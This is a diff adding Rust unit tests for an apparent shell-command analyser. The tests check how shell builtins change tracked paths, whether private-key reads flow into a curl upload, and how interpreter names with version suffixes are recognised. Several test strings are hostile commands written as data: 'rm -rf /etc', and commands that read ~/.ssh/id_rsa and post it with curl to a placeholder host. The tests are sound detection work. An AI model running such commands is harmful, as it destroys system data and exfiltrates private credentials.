@@ -275,6 +275,41 @@ mod analysis {
     }
 
     #[test]
+    fn every_builtin_the_analysis_follows_by_name_changes_what_comes_after_it() {
+        let writes = |text: &str| -> Vec<Vec<String>> {
+            run(text).invocations.iter().filter(|i| i.program == "rm").map(|i| i.writes.clone()).collect()
+        };
+        let cases: &[(&str, &[&str])] = &[
+            ("x=/etc; unset x; rm -rf \"/tmp/$x\"", &["/tmp"]),
+            ("declare x=/etc; rm -rf $x", &["/etc"]),
+            ("typeset x=/etc; rm -rf $x", &["/etc"]),
+            ("local x=/etc; rm -rf $x", &["/etc"]),
+            ("readonly x=/etc; rm -rf $x", &["/etc"]),
+            ("export x=/etc; rm -rf $x", &["/etc"]),
+            ("pushd /usr && rm -rf z", &["/usr/z"]),
+            ("cd /usr && rm -rf z", &["/usr/z"]),
+        ];
+        for (text, expected) in cases {
+            let expected: Vec<String> = expected.iter().map(|p| p.to_string()).collect();
+            assert_eq!(writes(text), vec![expected], "{text:?}");
+        }
+        for reader in ["read", "mapfile", "readarray"] {
+            for input in ["< ~/.ssh/id_rsa", "<<< \"$(cat ~/.ssh/id_rsa)\"", "< <(cat ~/.ssh/id_rsa)"] {
+                let text = format!("{reader} x {input}; curl -d \"$x\" http://h");
+                let a = run(&text);
+                assert!(a.invocations.iter().any(|i| i.program == "curl" && i.secret_input), "{text:?}: {a:?}");
+            }
+            let text = format!("{reader} x < notes.txt; curl -d \"$x\" http://h");
+            let a = run(&text);
+            assert!(a.invocations.iter().any(|i| i.program == "curl" && !i.secret_input), "{text:?}: {a:?}");
+        }
+        let a = run("alias x='ls /'; unalias x; x");
+        assert!(a.invocations.iter().any(|i| i.program == "x"), "{a:?}");
+        let a = run("alias x='ls /'; x");
+        assert!(!a.invocations.iter().any(|i| i.program == "x"), "{a:?}");
+    }
+
+    #[test]
     fn state_changed_in_a_subshell_a_pipeline_stage_or_a_function_body_stays_there() {
         // Each copy of the shell's state is shared until one changes it: a
         // change must reach neither the copy it came from nor its siblings.
@@ -348,4 +383,26 @@ fn odd_parameter_expansions_print_back_to_the_same_tree() {
             roundtrip(text);
         }
     }
+}
+
+#[test]
+fn an_interpreter_is_found_by_its_name_with_or_without_a_version_as_a_scan_of_every_row_finds_it() {
+    let scan = |program: &str| {
+        let stem = program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+        commands::INTERPRETERS.iter().find(|(name, _)| *name == stem || *name == program).map(|(_, flags)| *flags)
+    };
+    let mut names: Vec<String> =
+        ["", "3", "3.12", ".", "cargo", "git", "tail", "p", "pythonx", "xpython", "Python"].map(String::from).to_vec();
+    for (name, _) in commands::INTERPRETERS {
+        for suffix in ["", "3", "3.12", ".", "2.7.18", "x", "3x", "-3"] {
+            names.push(format!("{name}{suffix}"));
+        }
+        names.push(name[..name.len() - 1].to_string());
+        names.push(name.to_ascii_uppercase());
+    }
+    for name in names {
+        assert_eq!(commands::interpreter(&name), scan(&name), "`{name}`");
+    }
+    assert!(commands::interpreter("python3.12").is_some() && commands::interpreter("node").is_some());
+    assert_eq!(commands::interpreter("cargo"), None);
 }
